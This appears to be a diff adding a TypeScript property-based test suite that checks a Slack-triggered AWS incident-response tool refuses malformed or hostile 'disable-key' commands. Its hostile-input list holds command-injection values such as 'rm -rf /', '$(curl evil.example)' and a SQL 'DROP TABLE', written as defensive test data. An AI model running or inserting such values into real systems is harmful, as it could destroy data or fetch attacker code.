@@ -1,0 +1,122 @@
+/**
+ * Bad input — malformed key ids, hostile argument strings, 10 kB arguments — gets a clear ephemeral
+ * message in the acknowledgement and changes nothing: no run, no AWS call, no message in the channel.
+ * Property-based with fast-check through the real signed-request surface.
+ */
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { InputInvalidError, NotAllowedError } from '../../src/errors.ts';
+import { parseCommandText } from '../../src/runbooks/command-grammar.ts';
+import { parseRunbookInput } from '../../src/runbooks/define-runbook.ts';
+import { findRunbook } from '../../src/runbooks/registry.ts';
+import { accountConfig, randomAccountId } from '../support/aws-fixtures.ts';
+import { INCIDENT, startTestQuell, type TestQuell } from '../support/test-quell.ts';
+
+const KEY_ID = /^(AKIA|ASIA)[A-Z2-7]{16}$/;
+
+describe('hostile input', () => {
+  let t: TestQuell;
+  beforeAll(async () => {
+    t = await startTestQuell({
+      accounts: [accountConfig('prod', randomAccountId()), accountConfig('dev', randomAccountId())],
+    });
+  });
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  async function assertNothingHappened() {
+    await t.settle();
+    expect(await t.quell.store.listRuns({ limit: 5 })).toHaveLength(0);
+    const audit = await t.quell.store.listAudit();
+    expect(audit.filter((e) => e.type.startsWith('aws.'))).toHaveLength(0);
+    expect(audit.filter((e) => e.type === 'command.received')).toHaveLength(0);
+    expect(t.slack.callsOf('chat.postMessage').filter((c) => c.body.channel === INCIDENT)).toHaveLength(0);
+  }
+
+  it('answers known hostile strings with a clear message and changes nothing', async () => {
+    const hostile = [
+      'disable-key AKIA123',
+      'disable-key akiaiosfodnn7example',
+      'disable-key AKIAIOSFODNN7EXAMPL1', // 1 is not base32
+      'disable-key AKIAIOSFODNN7EXAMPLEX',
+      'disable-key AKIAIOSFODNN7EXAMPLE account=prod; rm -rf /',
+      'disable-key AKIAIOSFODNN7EXAMPLE account="prod; rm -rf /"',
+      'disable-key AKIAIOSFODNN7EXAMPLE account=nope',
+      'disable-key AKIAIOSFODNN7EXAMPLE AKIAIOSFODNN7EXAMPLE',
+      'disable-key AKIAIOSFODNN7EXAMPLE reason="unterminated',
+      'disable-key AKIAIOSFODNN7EXAMPLE account=prod account=dev',
+      'disable-key AKIAIOSFODNN7EXAMPLE sneaky=1',
+      `disable-key AKIAIOSFODNN7EXAMPLE reason="${'x'.repeat(10_000)}"`,
+      'disable-key <!channel> <@U0LEAD1> <https://evil.example|click>',
+      'disable-key $(curl evil.example)',
+      'disable-key AKIAIOSFODNN7EXAMPLE\u202eelgnis',
+      'isolate-everything now',
+      'DROP TABLE runs;',
+    ];
+    for (const text of hostile) {
+      const res = await t.command(text, 'U0RESP');
+      expect(res.status, text.slice(0, 60)).toBe(200);
+      const reply = String(res.json?.text);
+      expect(reply, text.slice(0, 60)).toMatch(/did not run|not a runbook|:warning:/);
+      expect(res.json?.response_type).toBe('ephemeral');
+      // Untrusted text never comes back as a live mention or link.
+      expect(reply).not.toMatch(/<!channel>|<@U0LEAD1>|<https?:/);
+    }
+    const unknown = await t.command('disable-kye AKIAIOSFODNN7EXAMPLE', 'U0RESP');
+    expect(String(unknown.json?.text)).toContain('Did you mean `disable-key`');
+    const badKey = await t.command('disable-key AKIA123', 'U0RESP');
+    expect(String(badKey.json?.text)).toContain('AKIA or ASIA followed by 16 characters');
+    expect(String(badKey.json?.text)).toContain('Usage: `/quell disable-key AKIAXXXXXXXXXXXXXXXX');
+    await assertNothingHappened();
+  });
+
+  it('property: any argument string after disable-key is parsed or refused, never run unless it is a key id', async () => {
+    let attempts = 0;
+    let accepted = 0;
+    await fc.assert(
+      fc.asyncProperty(
+        fc.oneof(
+          fc.string({ maxLength: 80 }),
+          fc.stringMatching(/^[A-Z0-9]{16,24}$/),
+          fc.constantFrom('prod; rm -rf /', '`id`', '"', '=', 'account='),
+        ),
+        async (arg) => {
+          attempts++;
+          const res = await t.command(`disable-key ${arg} account=dev`, 'U0FUZZ');
+          expect(res.status).toBe(200);
+          if (
+            !String(res.json?.text).includes('did not run') &&
+            !String(res.json?.text).includes(':warning:')
+          )
+            accepted++;
+        },
+      ),
+      { numRuns: 60 },
+    );
+    expect(attempts).toBe(60);
+    // Only a syntactically valid key id can be accepted for planning; none of these are.
+    expect(accepted).toBe(0);
+    await assertNothingHappened();
+  });
+
+  it('property: the grammar and schema accept only well-formed key ids, and fail only with InputInvalidError', () => {
+    const runbook = findRunbook('disable-key');
+    if (!runbook) throw new Error('disable-key missing');
+    fc.assert(
+      fc.property(fc.string({ maxLength: 200 }), (text) => {
+        try {
+          const parsed = parseCommandText(`disable-key ${text}`);
+          const input = parseRunbookInput<{ keyId: string; account?: string; reason?: string }>(
+            runbook,
+            parsed.args,
+          );
+          expect(input.keyId).toMatch(KEY_ID);
+        } catch (error) {
+          expect(error instanceof InputInvalidError || error instanceof NotAllowedError).toBe(true);
+        }
+      }),
+      { numRuns: 2000 },
+    );
+  });
+});
